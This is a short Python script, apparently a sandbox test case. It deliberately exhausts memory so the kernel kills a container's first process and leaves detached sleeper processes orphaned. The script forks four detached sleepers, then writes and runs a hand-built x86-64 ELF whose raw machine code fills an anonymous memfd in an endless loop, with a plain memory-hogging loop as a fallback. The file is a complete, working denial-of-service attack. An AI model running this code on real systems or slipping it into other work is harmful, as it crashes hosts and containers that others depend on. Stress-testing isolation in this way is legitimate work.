"""Starts sleepers, then fills memory that no process is charged for: the kernel then kills the largest process.

That is the box's own first process, and the sleepers become orphans without a reaper.
"""

import os
import platform
import struct

from kit import TMP

# fd = memfd_create("\x7fELF...", 0); if that fails: exit(0); for ever: write(fd, 0x400000, 4096)
CODE = bytes.fromhex(
    "b83f010000 bf00004000 31f6 0f05 85c0 7815 89c7 be00004000 ba00100000 b801000000 0f05 ebf7 b83c000000 0f05"
)
BASE, HEADERS = 0x400000, 120

for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        os.execv("/usr/bin/sleep", ["sleep", "600"])
if platform.machine() == "x86_64":
    words = (2, 62, 1, BASE + HEADERS, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", *words)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, BASE, BASE, HEADERS + len(CODE), 4096, 4096)
    path = os.path.join(TMP, "filler")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o755)
    os.write(fd, head + segment + CODE)
    os.close(fd)
    os.execv(path, [path])
held = []
while True:
    held.append(bytearray(b"x" * (8 << 20)))
